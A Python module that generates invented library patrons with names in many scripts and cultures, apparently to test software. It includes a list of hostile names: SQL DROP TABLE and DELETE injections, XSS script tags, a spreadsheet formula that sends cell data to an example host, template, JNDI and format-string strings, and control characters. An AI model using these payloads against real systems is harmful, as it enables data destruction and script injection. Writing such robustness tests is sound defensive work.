"""Invented people: names of many cultures and scripts, and names that break careless software.

No name here belongs to anybody; given names and surnames are combined at random. E-mail addresses
use the domains reserved for examples, telephone numbers the range reserved for fiction.
"""

from __future__ import annotations

import random
import unicodedata
from dataclasses import dataclass

# culture: (given names, surnames); a surname list with one empty string makes people of one name.
_CULTURES: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {
    "english": (
        ("Alice", "Ruth", "Grace", "Dorothy", "Hannah", "Megan", "Claire", "Joan", "Walter", "Henry",
         "Owen", "Samuel", "Peter", "Douglas", "Caleb", "Arthur", "Judith", "Naomi"),
        ("Alder", "Barrow", "Carver", "Dunmore", "Ellery", "Fenwick", "Garland", "Hollis", "Ingram",
         "Jessop", "Kendrick", "Lockhart", "Merriman", "Northcott", "Oakes", "Prescott", "Quarles",
         "Radley", "Sedgwick", "Thorne", "Underhill", "Vance", "Whitlock", "Yardley"),
    ),
    "irish": (("Aoife", "Niamh", "Siobhán", "Eoin", "Pádraig", "Ciarán"),
    ("O'Brien", "Ó Súilleabháin", "McGrath", "D'Arcy")),
    "german": (("Jürgen", "Käthe", "Lothar", "Sibylle"), ("Müller", "Weiß", "Größinger", "von der Heide")),
    "nordic": (("Åsa", "Bjørn", "Søren", "Þóra", "Liv"), ("Ångström", "Østergaard", "Jónsdóttir", "Sæther")),
    "french": (("Zoë", "François", "Hélène", "Anaïs"), ("Lefèvre", "d'Ormesson", "Côté", "Saint-Pierre")),
    "spanish": (("María José", "Íñigo", "Lucía", "Andrés"),
    ("Núñez de la Vega", "García Peña", "Ibáñez", "Muñoz")),
    "portuguese": (("João", "Conceição", "Inês"), ("Gonçalves", "Assunção", "Simões")),
    "polish": (("Łukasz", "Żaneta", "Małgorzata"), ("Wójcik", "Śliwińska", "Brzęczyszczykiewicz")),
    "czech": (("Jiří", "Božena", "Řehoř"), ("Dvořák", "Nováková", "Šťastný")),
    "turkish": (("İbrahim", "Çiğdem", "Ayşe"), ("Yılmaz", "Gökçe", "Işık")),
    "vietnamese": (("Nguyệt", "Đức", "Thị Hương"), ("Nguyễn", "Trần", "Phạm")),
    "russian": (("Алёна", "Пётр", "Ксения"), ("Ковалёва", "Щербаков", "Ильина")),
    "greek": (("Ελένη", "Γιώργος"), ("Παπαδοπούλου", "Ξενάκης")),
    "arabic": (("محمد", "فاطمة", "ليلى", "يوسف"), ("الحسيني", "عبد الرحمن", "الخطيب")),
    "hebrew": (("נועה", "יצחק"), ("לוי", "בן־דוד")),
    "persian": (("شیرین", "کیان"), ("رضایی", "پژمان")),
    "chinese": (("秀英", "伟", "思远"), ("王", "李", "欧阳")),
    "japanese": (("さくら", "健太", "美咲"), ("佐藤", "髙橋", "渡邉")),
    "korean": (("지우", "서연"), ("김", "박")),
    "hindi": (("अनन्या", "विक्रम"), ("शर्मा", "त्रिपाठी")),
    "tamil": (("கவிதா", "முருகன்"), ("", "")),
    "thai": (("สมชาย", "กัลยา"), ("ศรีสุวรรณ", "ทองดี")),
    "amharic": (("አበበ", "ሰላም"), ("ታደሰ", "ገብረ")),
    "yoruba": (("Adébáyọ̀", "Ọlámidé"), ("Ògúnbánjọ", "Adéyẹmí")),
    "hawaiian": (("Kaʻiulani", "Keola"), ("Kealoha", "Nāhale")),
    "indonesian": (("Suharti", "Wulandari", "Budi"), ("",)),
    "hmong": (("Pa Houa", "Tou"), ("Xiong", "Vang")),
    "somali": (("Ayaan", "Cabdi"), ("Warsame", "Xasan")),
}  # fmt: skip
_WEIGHTS = [40 if culture == "english" else 2 for culture in _CULTURES]

# (given, surname): real libraries meet all of these sooner or later.
HOSTILE: tuple[tuple[str, str], ...] = (
    ("Christopher", "Null"),
    ("NULL", "NULL"),
    ("Robert'); DROP TABLE borrowers;--", "Tables"),
    ('"; DELETE FROM old_issues WHERE ""="', "Quote"),
    ("<script>alert('reader')</script>", "Markup"),
    ("<img src=x onerror=alert(1)>", "&amp; Sons"),
    ('=HYPERLINK("https://example.net/?"&A1,"x")', "+Formula"),
    ("{{ 7 * 7 }}", "${jndi}"),
    ("%s%n%d", "%(password)s"),
    ("\u202enosirG", "Reversed"),
    ("Ze\u200bro", "Width\u00a0Space"),
    ("🦋", "🐛🌱"),
    ("José", "Nu\u0301n\u0303ez"),
    ("Back\\slash", "O\\'Escape"),
    ("Two\nLines", "Tab\there"),
    ("[bold red]Rich[/bold red]", "Brackets"),
    ("\x1b[31mAnsi", "Escape\x07"),
    ("", "   "),
    ("True", "0"),
    ("Aurelia " * 12, "Featherstonehaugh-" * 6 + "Smith"),
    ("Test", "Patron"),
    ("Self", "Check"),
)


@dataclass(frozen=True)
class Person:
    """Somebody who does not exist."""

    given: str
    surname: str
    email: str | None
    phone: str
    street: str


HOSTILE_FROM = 11  # the borrowernumbers 57, 62, 67, ...: accounts that still exist
_STREETS = ("Harbor", "Mill", "Orchard", "Ferry", "Quarry", "Chapel", "Juniper", "Lantern", "Heron",
    "Bayview",
            "Cooper", "Depot", "Elm", "Foundry", "Granary", "Station")  # fmt: skip
_KINDS = ("St", "Ave", "Ln", "Rd", "Ct")


def person(rng: random.Random, number: int) -> Person:
    """Invent one person; ``number`` keeps addresses unique and gives every fifth early one a hostile name."""
    if number % 5 == 2 and 0 <= number // 5 - HOSTILE_FROM < len(HOSTILE):
        given, surname = HOSTILE[number // 5 - HOSTILE_FROM]
    else:
        givens, surnames = _CULTURES[rng.choices(list(_CULTURES), _WEIGHTS)[0]]
        given, surname = rng.choice(givens), rng.choice(surnames)
        if not surname:
            given, surname = "", given
    mailbox = "".join(
        c for c in unicodedata.normalize("NFKD", f"{given}.{surname}").lower() if c.isascii() and c.isalnum()
    )
    email = f"{mailbox[:24] or 'reader'}{number}@{rng.choice(('example.org', 'example.net'))}"
    return Person(
        given,
        surname,
        email if rng.random() < 0.82 else None,
        f"(920) 555-01{rng.randrange(100):02d}",
        f"{rng.randrange(1, 990)} {rng.choice(_STREETS)} {rng.choice(_KINDS)}",
    )
